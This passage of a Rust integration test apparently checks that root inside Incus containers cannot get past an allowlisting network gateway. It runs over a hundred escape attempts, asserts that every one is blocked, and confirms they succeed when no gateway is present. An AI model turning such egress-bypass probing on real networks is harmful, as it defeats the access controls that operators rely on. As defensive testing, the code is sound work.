        "exec", "-u", "root", "-e", &variable, pixel, "--", "perl", "-",
    ];
    let outcome = env.pixels_with(args, script.as_bytes()).ok();
    let reported: Vec<&str> = outcome.stdout.lines().collect();
    assert_eq!(reported.len(), numbers.len(), "{outcome:?}");
    let mut replies: BTreeMap<usize, Vec<String>> = BTreeMap::new();
    for (number, line) in numbers.into_iter().zip(reported) {
        let rest = line
            .strip_prefix(&token(number))
            .unwrap_or_else(|| panic!("{line}"));
        let reply = rest
            .strip_prefix(" got ")
            .map(|reply| reply.trim().to_owned());
        replies.entry(number).or_default().extend(reply);
    }
    replies
}

/// Opens a flow of UDP from the pixel, which attempts refer to.
fn open_flow(env: &TestEnv, pixel: &str, to: std::net::Ipv4Addr) {
    let script = format!(
        "use Socket; socket(S,2,2,0); bind(S,pack_sockaddr_in(40001,INADDR_ANY)); alarm 5; \
         send(S,'x',0,pack_sockaddr_in(4433,inet_aton('{to}'))); recv(S,$_,9,0); print"
    );
    let outcome = env.pixels(["exec", pixel, "--", "perl", "-e", &script]);
    assert_eq!(outcome.ok().stdout, "x", "no answer from {to}");
}

fn mac_of(interface: &str) -> String {
    let path = format!("/sys/class/net/{interface}/address");
    std::fs::read_to_string(path).unwrap().trim().to_owned()
}

fn host_address() -> String {
    let network = crate::support::server::Server::shared().get("/1.0/networks/incusbr0");
    let address = network["config"]["ipv4.address"].as_str().unwrap();
    address.split('/').next().unwrap().to_owned()
}

#[test]
#[ignore = "needs Incus"]
fn root_in_pixel_cannot_bypass_gateway() {
    lab::ready();
    let walls = Walls::new("esc", wan::Wan::first());
    walls.wan.name("allowed.test", &[10]);
    walls.wan.name("other.test", &[20]);
    walls.wan.name("ported.test", &[21]);
    let a = walls.create(
        "a",
        "allowlist",
        &["allowed.test", "absent.test", "ported.test:443"],
    );
    let b = walls.create("b", "allowlist", &["other.test"]);
    let d = walls.create("d", "unrestricted", &[]);
    let former = walls.place(&d).address;
    walls.env.pixels(["destroy", "--force", &d]).ok();
    // Allowed hosts are reachable from this pixel and from the neighbor.
    walls.comes_to_reach(&a, "allowed.test", 443);
    walls.comes_to_reach(&a, "ported.test", 443);
    walls.comes_to_reach(&b, "other.test", 80);

    let gateway = format!("/1.0/instances/{}", walls.gateway_name());
    let state = walls.server.get(&format!("{gateway}/state"));
    let uplink = state["network"]["eth0"]["addresses"][0]["address"]
        .as_str()
        .unwrap()
        .to_owned();
    let port = state["network"]["eth0"]["host_name"].as_str().unwrap();
    let neighbor = walls.place(&b);
    let to = Targets {
        own: walls.place(&a),
        gateway: walls.gateway(),
        uplink,
        bridge_mac: mac_of(&walls.wan.bridge()),
        host: host_address(),
        host_port: answer_connections(&host_address()),
        server: walls.gateway().address,
        resolver: resolver_port(&walls, &neighbor),
        forwarder: 19_999,
        former,
        neighbor,
    };
    let all = Attempt::all();
    assert!(all.len() >= 120);
    // The probe derives as many different ports from tokens.
    assert!(all.len() <= 200);
    open_flow(&walls.env, &a, walls.wan.address(10));
    open_flow(&walls.env, &b, walls.wan.address(20));
    let observers = Observers::watch(&walls.wan, &walls.env, &a, &b, Some(port));
    let found = succeeded(&walls.env, &a, &to, &all, &observers);
    assert!(found.is_empty(), "{found:#?}");
    observers_work(&walls, &a, &to, &observers);

    // Neither the neighbor nor this pixel is damaged.
    drop(observers);
    walls.comes_to_reach(&b, "other.test", 80);
    walls.comes_to_reach(&a, "allowed.test", 443);
    walls.env.pixels(["stop", &b]).ok();
    walls.env.pixels(["start", &b]).ok();
    eventually("the neighbor is reachable again", || {
        walls.reaches(&b, "other.test", 80)
    });

    let proven = open_pixels_succeed(&walls, to.host_port);
    report(&format!(
        "escape attempts behind a gateway: {0}, blocked: {0}, proven by success without a \
         gateway: {proven}",
        all.len(),
    ));
}

/// The port of the gateway's resolver for the policy of a pixel.
fn resolver_port(walls: &Walls, pixel: &Place) -> u16 {
    let element = format!("inet pixels resolvers {{ {} }}", pixel.address);
    let get = ["nft", &format!("get element {element}")];
    let ports = walls.server.run(&walls.gateway_name(), &get);
    // The port is the only word that is a number.
    let port = ports.split_whitespace().find_map(|word| word.parse().ok());
    port.unwrap_or_else(|| panic!("no port in {ports}"))
}

/// Packets that are allowed arrive at all observers, except the protocols of the
/// host.
fn observers_work(walls: &Walls, pixel: &str, to: &Targets, observers: &Observers<'_>) {
    let marker = token(999);
    let line = format!("{PROBE}{marker} udp {} 4433\n", walls.wan.address(10));
    let args = ["exec", "-u", "root", pixel, "--", "perl", "-"];
    walls.env.pixels_with(args, line.as_bytes()).ok();
    let socket = UdpSocket::bind((to.host.as_str(), 0)).unwrap();
    let neighbor = (to.neighbor.address.as_str(), 4433);
    socket.send_to(marker.as_bytes(), neighbor).unwrap();
    let uplink = observers.uplink.as_ref().unwrap();
    eventually("allowed packets arrive", || {
        walls.wan.saw(&marker)
            && uplink.saw(&marker)
            && observers.attacker.saw(&marker)
            && observers.neighbor.saw(&marker)
    });
}

/// Repeats the attempts from a pixel on an external network. Returns their number.
fn open_pixels_succeed(walls: &Walls, host_port: u16) -> usize {
    walls.wan.forget();
    let env = walls.open("esco");
    let (a, b) = (env.name("a"), env.name("b"));
    env.pixels(["create", &a]).ok();
    env.pixels(["create", &b]).ok();
    let place = |name: &str| {
        let found = walls.server.get(&format!("/1.0/instances/px-{name}"));
        let mac = &found["config"]["volatile.eth0.hwaddr"];
        let started = env.pixels(["start", name, "--json"]).ok().json();
        Place {
            mac: mac.as_str().unwrap().to_owned(),
            address: started["ip"].as_str().unwrap().to_owned(),
        }
    };
    let bridge_mac = mac_of("incusbr0");
    let to = Targets {
        own: place(&a),
        neighbor: place(&b),
        gateway: Place {
            mac: bridge_mac.clone(),
            address: host_address(),
        },
        uplink: host_address(),
        bridge_mac,
        host: host_address(),
        host_port,
        server: walls.wan.resolver().to_string(),
        resolver: 53,
        forwarder: 53,
        former: "10.99.99.99".into(),
    };
    let mut all = Attempt::all();
    all.retain(|attempt| attempt.open);
    open_flow(&env, &a, walls.wan.address(10));
    open_flow(&env, &b, walls.wan.address(20));
    let observers = Observers::watch(&walls.wan, &env, &a, &b, None);
    let found = succeeded(&env, &a, &to, &all, &observers);
    let found: BTreeSet<&str> = found.iter().map(|(name, _)| *name).collect();
    let idle: Vec<&str> = all
        .iter()
        .map(|attempt| attempt.name)
        .filter(|name| !found.contains(name))
        .collect();
    assert!(
        idle.is_empty(),
        "these attempts prove nothing, they fail without a gateway too: {idle:#?}"
    );
    found.len()
}
